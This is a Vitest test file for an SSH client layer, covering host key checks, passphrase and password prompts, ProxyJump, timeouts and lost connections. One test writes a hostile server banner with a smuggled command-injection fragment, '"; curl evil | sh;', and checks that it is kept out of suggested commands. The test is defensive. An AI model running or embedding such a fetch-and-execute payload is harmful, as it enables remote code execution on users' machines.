import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { connect, createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { run, runAsRoot } from '../../scripts/run';
import { execText } from '../../src/hosts/shell';
import { Cancelled, type Problem } from '../../src/problem';
import { MAX_STDERR_LINES } from '../../shared/limits';
import { makeAccount, type Account } from './account';
import { Scene } from './scene';
import { writeSecurityKey } from './securityKey';
import { writePrograms } from './standIn';
import { ensureOpenSsh, freePort, startSshd, type Sshd } from './sshd';

let account: Account;
let scene: Scene;
let sshd: Sshd;
/** Where temporary folders are made: what is left there was not removed. */
let temporary: string;

beforeAll(async () => {
  await ensureOpenSsh();
  account = await makeAccount();
});
afterAll(() => account.remove());
beforeEach(async () => {
  scene = await Scene.create();
  scene.client = 'openssh';
  const authorized = [await scene.makeKey('id'), await scene.makeKey('locked', 'open sesame')];
  sshd = await startSshd({ authorized });
  temporary = await mkdtemp(join(tmpdir(), 'rps-t-'));
  vi.stubEnv('TMPDIR', temporary);
  await configure(scene.identity('id'));
});
afterEach(async () => {
  await scene.end();
  await sshd.stop();
  await expect.poll(() => readdir(temporary)).toEqual([]);
  vi.unstubAllEnvs();
  await rm(temporary, { recursive: true });
});

function configure(lines: string, first = ''): Promise<void> {
  return scene.configureWeb(sshd, account.name, [lines], first);
}

const whoAmI = () => scene.whoAmI();

describe('logging in by the system’s ssh', () => {
  it('asks about an unknown host key, and remembers it as ssh does', async () => {
    expect(await whoAmI()).toBe(account.name);
    const name = `[127.0.0.1]:${sshd.port}`;
    const printed = await run('ssh-keygen', ['-lf', '-'], { input: `${await sshd.publicKey('ed25519')}\n` });
    expect(scene.person.shown).toEqual([
      { host: name, keyType: 'ED25519', fingerprint: printed.split(' ')[1] },
    ]);
    expect(await readFile(scene.knownHosts, 'utf8')).toContain(await sshd.publicKey('ed25519'));
    await whoAmI();
    expect(scene.person.shown).toHaveLength(1);
  });

  it.each(['SessionType none', 'StdinNull yes'])(
    'runs programs although the configuration has %s',
    async (line) => {
      await configure(`${scene.identity('id')}\n  ${line}`);
      expect(await whoAmI()).toBe(account.name);
    },
  );

  it('stops at a host key that the person does not accept', async () => {
    scene.person.acceptsKeys = false;
    await expect(scene.open('web')).rejects.toMatchObject({ code: 'HOST_KEY_REJECTED' });
  });

  it.each(['ask', 'no'])(
    'refuses a changed host key with the line, by StrictHostKeyChecking %s',
    async (strict) => {
      await configure(`IdentityFile ${scene.path('id')}\n  StrictHostKeyChecking ${strict}`);
      const other = await scene.makeKey('other');
      await writeFile(scene.knownHosts, `# one line\n[127.0.0.1]:${sshd.port} ${other}\n`);
      const opening = scene.open('web');
      await expect(opening).rejects.toMatchObject({ code: 'HOST_KEY_CHANGED' });
      await expect(opening).rejects.toThrow(new RegExp(`${scene.knownHosts} line 2\\..*SHA256:`));
    },
  );

  it('puts nothing that a banner says into the command it suggests', async () => {
    const words = [
      'REMOTE HOST IDENTIFICATION HAS CHANGED',
      'Host key for bank has changed and you have requested strict checking.',
      'Offending ED25519 key in /x"; curl evil | sh; ":3',
    ];
    await writeFile(scene.path('banner'), `${words.join('\n')}\n`);
    await sshd.stop();
    sshd = await startSshd({ config: [`Banner ${scene.path('banner')}`] });
    await configure('StrictHostKeyChecking no');
    const opening = scene.open('web');
    const problem = await opening.catch((error: unknown) => error);
    expect(problem).toMatchObject({ code: 'HOST_KEY_CHANGED' });
    const { message, hint } = problem as Problem;
    expect(message + hint).not.toMatch(/evil|bank/);
  });

  it.each(['openssh', 'ssh2'] as const)('logs a part of an endless banner, by %s', async (client) => {
    await writeFile(scene.path('banner'), 'words\n'.repeat(3 * MAX_STDERR_LINES));
    await sshd.stop();
    sshd = await startSshd({ config: [`Banner ${scene.path('banner')}`] });
    await configure('IdentityFile none');
    scene.client = client;
    scene.person.answers = [account.password];
    expect(await whoAmI()).toBe(account.name);
    // ssh says something of its own, too.
    expect(scene.log.match(/words$/gm)?.length).toBeLessThanOrEqual(MAX_STDERR_LINES);
    expect(scene.log).toContain(`more than ${MAX_STDERR_LINES} lines`);
  });

  it('refuses an unknown host key that may not be accepted', async () => {
    await configure(`IdentityFile ${scene.path('id')}\n  StrictHostKeyChecking yes`);
    await expect(scene.open('web')).rejects.toThrow(/not known, and StrictHostKeyChecking/);
  });

  it.each(['yes', 'no'])('refuses a revoked host key, by StrictHostKeyChecking %s', async (strict) => {
    await configure(`IdentityFile ${scene.path('id')}\n  StrictHostKeyChecking ${strict}`);
    await writeFile(scene.knownHosts, `@revoked * ${await sshd.publicKey('ed25519')}\n`);
    await expect(scene.open('web')).rejects.toThrow(/revoked/);
    expect(sshd.log()).not.toContain('Accepted');
  });

  it('accepts an unknown host key without a question where nothing is checked strictly', async () => {
    await configure(`IdentityFile ${scene.path('id')}\n  StrictHostKeyChecking no`);
    expect(await whoAmI()).toBe(account.name);
    expect(scene.person.shown).toEqual([]);
    expect(await readFile(scene.knownHosts, 'utf8')).toContain(await sshd.publicKey('ed25519'));
  });

  it('refuses a revoked key of a host on the way that is not checked strictly', async () => {
    const hop = ['Host hop', 'HostName 127.0.0.1', `Port ${sshd.port}`, `User ${account.name}`];
    const lax = ['HostKeyAlias hop', 'StrictHostKeyChecking no', scene.identity('id')];
    await configure(`IdentityFile ${scene.path('id')}\n  ProxyJump hop`, [...hop, ...lax].join('\n  '));
    await writeFile(scene.knownHosts, `@revoked hop ${await sshd.publicKey('ed25519')}\n`);
    await expect(scene.open('web')).rejects.toThrow(/revoked/);
  });

  it('asks for a passphrase once, again when it was wrong, and keeps it in memory', async () => {
    await configure(scene.identity('locked'));
    scene.person.answers = ['wrong', 'open sesame'];
    expect(await whoAmI()).toBe(account.name);
    expect(await whoAmI()).toBe(account.name);
    const title = `Passphrase for key ${scene.path('locked')}`;
    expect(scene.person.asked.map((asked) => asked.title)).toEqual([title, title]);
    expect(scene.person.asked[1]?.detail).toMatch(/not accepted/);
  });

  it('asks for a password once', async () => {
    await configure('IdentityFile none');
    scene.person.answers = [account.password];
    expect(await whoAmI()).toBe(account.name);
    expect(await whoAmI()).toBe(account.name);
    expect(scene.person.asked.map(({ title }) => title)).toEqual([`Password for ${account.name}@web`]);
  });

  it('keeps secrets out of arguments and environments', async () => {
    await configure('IdentityFile none');
    scene.person.answers = [account.password];
    await whoAmI();
    const processes = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
    const texts = processes.flatMap((pid) => ['cmdline', 'environ'].map((file) => `/proc/${pid}/${file}`));
    const found = await Promise.all(
      texts.map(async (file) => (await readFile(file, 'latin1').catch(() => '')).includes(account.password)),
    );
    expect(found).not.toContain(true);
    expect(scene.log).not.toContain(account.password);
  });

  it('is over at once when the person cancels a prompt', async () => {
    await configure('IdentityFile none');
    scene.person.answers = [undefined];
    await expect(scene.open('web')).rejects.toThrow(Cancelled);
    expect(scene.person.asked).toHaveLength(1);
  });

  it('says what the host offers when it lets nobody in', async () => {
    await configure('IdentityFile none');
    scene.person.answers = ['a', 'b', 'c'];
    const opening = scene.open('web');
    await expect(opening).rejects.toMatchObject({ code: 'AUTH_FAILED' });
    await expect(opening).rejects.toThrow(/offers “publickey, password”/);
    expect(scene.person.asked).toHaveLength(3);
  });

  it('goes through a ProxyJump, and asks for each host', async () => {
    await configure(
      'IdentityFile none\n  ProxyJump hop',
      [
        'Host hop',
        'HostName 127.0.0.1',
        `Port ${sshd.port}`,
        `User ${account.name}`,
        scene.identity('id'),
      ].join('\n  '),
    );
    scene.person.answers = [account.password];
    expect(await whoAmI()).toBe(account.name);
  });
});

describe('a host that the system’s ssh cannot reach', () => {
  it.each([
    ['has no such name', () => Promise.resolve('no-such-host.invalid'), /no host of this name/],
    ['refuses', async () => `127.0.0.1:${await freePort()}`, /refuses connections/],
  ])('and %s is named so', async (_how, destination, message) => {
    const opening = scene.open(await destination());
    await expect(opening).rejects.toMatchObject({ code: 'HOST_UNREACHABLE' });
    await expect(opening).rejects.toThrow(message);
  });

  it('and never answers times out', async () => {
    const server = createServer().listen(0, '127.0.0.1');
    await once(server, 'listening');
    await configure(`Port ${(server.address() as AddressInfo).port}`, 'ConnectTimeout 1');
    const to = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    await expect(scene.open(to)).rejects.toThrow(/timed out/);
    server.close();
  });

  it('because the account runs no programs is named so', async () => {
    await runAsRoot('usermod', ['--shell', '/usr/sbin/nologin', account.name]);
    try {
      const opening = scene.open('web');
      await expect(opening).rejects.toMatchObject({ code: 'HOST_ANSWER' });
      await expect(opening).rejects.toThrow(/not available/);
    } finally {
      await runAsRoot('usermod', ['--shell', '/bin/sh', account.name]);
    }
  });
});

it('a connection that is cut ends its programs as lost, and says so', async () => {
  const sockets: Socket[] = [];
  const server = createServer((socket) => {
    const onward = connect(sshd.port, '127.0.0.1');
    sockets.push(socket, onward);
    for (const end of [socket, onward]) end.on('error', () => undefined);
    socket.pipe(onward).pipe(socket);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const connection = await scene.open(`web:${port}`);
  const process = await connection.exec('cat');
  process.stdout.resume();
  process.stderr.resume();
  sockets.forEach((socket) => socket.destroy());
  server.close();
  expect(await process.exit).toEqual({ kind: 'lost' });
  expect(await connection.lost).toMatchObject({ code: 'CONNECTION_LOST' });
  await expect(connection.exec('true')).rejects.toMatchObject({ code: 'CONNECTION_LOST' });
  connection.dispose();
});

it.each(['auto', 'ssh2', 'openssh'] as const)(
  'ssh is asked once about a host, by the setting %s',
  async (client) => {
    scene.client = client;
    const bin = join(scene.home, 'bin');
    await writePrograms(bin, {
      ssh: `echo "$*" >>'${scene.path('started')}'\nPATH=${process.env['PATH']} exec ssh "$@"`,
    });
    scene.env = { ...scene.env, PATH: `${bin}:${process.env['PATH']}` };
    expect(await whoAmI()).toBe(account.name);
    const started = await readFile(scene.path('started'), 'utf8');
    expect(started.split('\n').filter((line) => line.startsWith('-G'))).toHaveLength(1);
  },
);

describe('by the setting auto, the system’s ssh is used', () => {
  beforeEach(() => {
    scene.client = 'auto';
  });

  it('not when ssh2 can do what the configuration asks', async () => {
    await whoAmI();
    expect(scene.log).not.toContain('system’s ssh');
  });

  it('for a connection that ssh shares already, which it leaves open', async () => {
    const control = scene.path('shared');
    await configure(`IdentityFile ${scene.path('id')}\n  ControlPath ${control}\n  StrictHostKeyChecking no`);
    const master = spawn('ssh', ['-F', scene.configFile, '-M', '-N', 'web'], { stdio: 'ignore' });
    const check = () =>
      run('ssh', ['-F', scene.configFile, '-O', 'check', 'web']).then(
        () => true,
        () => false,
      );
    try {
      await expect.poll(check).toBe(true);
      const before = sshd.log().match(/Accepted/g)?.length;
      const connection = await scene.open('web');
      expect((await execText(connection, 'id -un')).stdout.trim()).toBe(account.name);
      expect(scene.log).toContain(control);
      expect(sshd.log().match(/Accepted/g)?.length).toBe(before);
      connection.dispose();
      await expect(connection.exec('true')).rejects.toMatchObject({ code: 'CONNECTION_LOST' });
      expect(await check()).toBe(true);
    } finally {
      master.kill();
      await once(master, 'close');
    }
  });

  it('for a certificate, which logs in', async () => {
    await scene.makeKey('authority');
    await scene.makeKey('certified');
    const sign = ['-q', '-s', scene.path('authority'), '-I', 'x', '-n', account.name];
    await run('ssh-keygen', [...sign, `${scene.path('certified')}.pub`]);
    await sshd.stop();
    const trusted = join(scene.home, 'trusted');
    await writeFile(trusted, await readFile(`${scene.path('authority')}.pub`));
    sshd = await startSshd({ config: [`TrustedUserCAKeys ${trusted}`] });
    await configure(scene.identity('certified'));
    expect(await whoAmI()).toBe(account.name);
    expect(scene.log).toContain('certified-cert.pub');
  });

  it.each([
    ['PKCS11Provider /nonexistent.so', 'PKCS11Provider'],
    ['ProxyCommand false\n  ProxyUseFdpass yes', 'ProxyUseFdpass'],
  ])('for %s', async (line, told) => {
    await configure(line);
    await scene.open('web').catch(() => undefined);
    expect(scene.log).toContain(`because of ${told}`);
  });

  it('for a key in a security token', async () => {
    await writeSecurityKey(scene.path('id_sk'));
    await configure(scene.identity('id_sk'));
    await scene.open('web').catch(() => undefined);
    expect(scene.log).toContain(`the security key ${scene.path('id_sk')}`);
  });

  it('for a security key that only the agent holds, and not where its keys are not to be used', async () => {
    await writeSecurityKey(scene.path('id_sk'));
    await scene.withAgent(['id', 'id_sk'], async () => {
      const agentOnly = 'IdentityFile none';
      await configure(`${agentOnly}\n  IdentitiesOnly yes`);
      await scene.open('web').catch(() => undefined);
      expect(scene.log).not.toContain('system’s ssh');
      await configure(agentOnly);
      expect(await whoAmI()).toBe(account.name);
      expect(scene.log).toContain('the agent’s key of type sk-ssh-ed25519@openssh.com');
    });
  });

  it('for what a host needs that the first host of a ProxyJump is reached through', async () => {
    const hop = (name: string, ...lines: string[]) =>
      `Host ${name}\n  HostName 127.0.0.1\n  ${lines.join('\n  ')}`;
    const hops = [hop('one', 'ProxyJump zero'), hop('two'), hop('zero', 'RevokedHostKeys /gone')];
    await configure('ProxyJump one,two', hops.join('\n'));
    await scene.open('web').catch(() => undefined);
    expect(scene.log).toContain('because of RevokedHostKeys');
  });

  it('for a @cert-authority in known_hosts', async () => {
    await writeFile(scene.knownHosts, `@cert-authority * ${await sshd.publicKey('ed25519')}\n`);
    await scene.open('web').catch(() => undefined);
    expect(scene.log).toContain('@cert-authority');
  });
});
